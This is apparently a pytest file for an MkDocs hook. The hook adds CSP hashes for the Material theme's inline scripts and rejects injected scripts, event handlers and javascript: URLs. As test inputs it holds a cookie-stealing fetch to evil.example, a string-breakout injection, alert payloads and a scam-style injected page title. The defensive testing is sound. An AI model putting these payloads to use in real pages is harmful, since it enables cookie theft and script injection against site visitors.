"""hooks/csp.py: which scripts are hashed, the hash format, where the meta tag goes,
and that nothing but Material's own inline scripts is ever allowed."""
import base64
import hashlib
from pathlib import Path

import pytest
from mkdocs.exceptions import PluginError

import csp

# Two of Material's own inline scripts, as a page at /en/guide/ gets them.
BASE = ('__md_scope=new URL("../..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
        '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
        '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}')
TABS = 'var target=document.getElementById(location.hash.slice(1));target&&target.name&&(target.checked=target.name.startsWith("__tabbed_"))'
PAGE = f"""<!doctype html><html><head>
  <meta charset="utf-8">
  <title>t</title>
  <script>{BASE}</script>
  <script id="__config" type="application/json">{{"x": 1}}</script>
  <script src="x.js"></script>
</head><body><script>{TABS}</script></body></html>"""


def test_only_executable_inline_scripts_are_collected():
    page = '<script>a()</script><script type="application/json">{}</script><script src="x.js"></script>' \
           '<script type="module">import "./m.js"</script>'
    assert csp.inline_scripts(page) == ["a()", 'import "./m.js"']


def test_theme_scripts_come_from_the_installed_material():
    patterns = csp.theme_scripts()
    assert any(p.fullmatch(BASE) for p in patterns) and any(p.fullmatch(TABS) for p in patterns)
    # the base URL may vary, but cannot break out of its string literal
    assert any(p.fullmatch(BASE.replace('"../.."', '"/"')) for p in patterns)
    assert not any(p.fullmatch(BASE.replace('"../.."', '"x",fetch("//evil.example"),"')) for p in patterns)
    # Material's analytics integration (it loads Google's script) is never allowed
    assert not any("__md_analytics" in p.pattern for p in patterns)


@pytest.mark.parametrize("script", [
    'fetch("https://evil.example/"+document.cookie)',         # d07b
    'document.title = "请加微信客服办理注销"',                     # d07e/f
    TABS + ";alert(1)",
])
def test_a_script_that_is_not_the_themes_is_refused(script):
    page = PAGE.replace("</body>", f"<script>{script}</script></body>")
    with pytest.raises(csp.ForeignScript, match="docs/x.md: inline <script> that is not one of Material's own"):
        csp.add_meta(page, "docs/x.md")


def test_hash_is_base64_sha256_of_the_exact_text():
    expected = base64.b64encode(hashlib.sha256(b"var a=1").digest()).decode()
    assert csp.script_hash("var a=1") == f"'sha256-{expected}'"
    assert csp.script_hash("var a=1 ") != csp.script_hash("var a=1")


def test_meta_goes_right_after_charset_and_lists_every_hash():
    out = csp.add_meta(PAGE)
    head = out.split("<title>")[0]
    assert 'http-equiv="Content-Security-Policy"' in head
    for body in (BASE, TABS):
        assert csp.script_hash(body) in out
    assert out.count("'sha256-") == 2
    assert "'unsafe-inline'" not in out
    assert "frame-ancestors" not in out  # ignored in <meta>; header only


def test_meta_is_replaced_not_duplicated():
    once = csp.add_meta(PAGE)
    assert csp.add_meta(once).count("Content-Security-Policy") == 1


def test_page_without_head_is_an_error():
    with pytest.raises(ValueError):
        csp.add_meta("<p>no head</p>")


def test_header_policy_adds_frame_ancestors_and_sorts_hashes():
    p = csp.policy(["'sha256-b'", "'sha256-a'", "'sha256-a'"], header=True)
    assert "script-src 'self' 'sha256-a' 'sha256-b';" in p
    assert p.endswith("frame-ancestors 'none'")


def test_nginx_line_covers_the_whole_site(tmp_path: Path):
    (tmp_path / "a").mkdir()
    (tmp_path / "index.html").write_text(f"<head><script>{BASE}</script></head>")
    (tmp_path / "a" / "index.html").write_text(f"<head><script>{TABS}</script></head>")
    line = csp.nginx_line(tmp_path)
    assert line.startswith('add_header Content-Security-Policy "') and line.endswith('" always;')
    assert csp.script_hash(BASE) in line and csp.script_hash(TABS) in line


def test_nginx_refresh_refuses_a_foreign_script(tmp_path: Path, capsys):
    # d07e/f: following the nginx test's advice must not add an injected script's hash
    (tmp_path / "index.html").write_text("<head><script>document.title='x'</script></head>")
    conf = tmp_path / "site.conf"
    conf.write_text('add_header Content-Security-Policy "old" always;\n')
    assert csp.main([str(tmp_path), "--write", str(conf)]) == 1
    assert "not one of Material's own" in capsys.readouterr().out
    assert "old" in conf.read_text()


@pytest.mark.parametrize("html,expected", [
    ("<p>x</p><script>alert(1)</script>", "a <script> element <script>: pages carry no scripts"),
    ('<script src="https://cdn.example/t.js"></script>', 'a <script> element <script src="https://cdn.example/t.js">'),
    ('<p><a href="#" onclick="steal()">x</a></p>', "an event handler onclick= on <a href=\"#\" onclick=\"steal()\">"),
    ('<img src="x.png" onerror="x()">', "an event handler onerror="),
    ('<a href="javascript:alert(1)">x</a>', "a javascript: URL in <a href=\"javascript:alert(1)\">"),
    ('<a href=" JavaScript:alert(1)">x</a>', "a javascript: URL"),
    ('<iframe src="https://www.youtube.com/embed/x"></iframe>', "an <iframe> element <iframe src=\"https://www.youtube.com/embed/x\">"),
    ('<object data="https://x.example/a.swf"></object>', "an <object> element"),
    ('<embed src="https://x.example/a.swf">', "an <embed> element"),
    ('<p style="color:red">x</p>', "a style= attribute on <p style=\"color:red\">"),
])
def test_page_content_that_could_run_code_is_refused(html, expected):
    markdown = f"# T\n\nSome text.\n{html}\n"
    (problem,) = csp.content_problems(html, "docs/x.md", markdown)
    assert problem.startswith(f"docs/x.md, line 4: {expected}"), problem


def test_content_problem_without_a_source_line():
    (problem,) = csp.content_problems('<a href="javascript:x()">y</a>', "docs/x.md", "[y](javascript:x%28%29)")
    assert problem.startswith("docs/x.md, line 1: a javascript: URL")
    (problem,) = csp.content_problems('<p onclick="x()">', "docs/x.md", "")
    assert problem.startswith("docs/x.md (rendered from data or Markdown): an event handler onclick=")


def test_ordinary_content_passes():
    html = ('<p>Call <a href="tel:+78002500890">8 800 250-08-90</a>, see <a href="https://mts.ru/">MTS</a>.</p>'
            '<pre><code>&lt;script&gt;alert(1)&lt;/script&gt; onclick=</code></pre><p lang="ru">Онлайн</p>')
    assert csp.content_problems(html, "docs/x.md", "") == []


def test_overrides_may_hold_no_inline_code(tmp_path: Path):
    (tmp_path / "partials").mkdir()
    (tmp_path / "main.html").write_text('{% block scripts %}\n<script src="a.js"></script>{{ super() }}{% endblock %}')
    assert csp.overrides_problems(tmp_path) == []
    (tmp_path / "partials" / "x.html").write_text('<div>\n<script>track()</script><a onclick="y()">z</a></div>')
    problems = csp.overrides_problems(tmp_path)
    assert len(problems) == 2
    assert problems[0].startswith(f"{tmp_path / 'partials' / 'x.html'}, line 2: inline <script> in a template override")
    assert "event handler onclick=" in problems[1]


def test_todays_overrides_pass():
    assert csp.overrides_problems(Path(__file__).resolve().parents[2] / "overrides") == []


def test_mkdocs_serve_gets_no_policy_so_live_reload_works():
    try:
        csp.on_startup(command="serve", dirty=False)
        assert csp.on_post_page(PAGE, page=None, config=None) == PAGE
        csp.on_startup(command="build", dirty=False)
        assert "Content-Security-Policy" in csp.on_post_page(PAGE, page=None, config=None)
    finally:
        csp.on_startup(command="build", dirty=False)
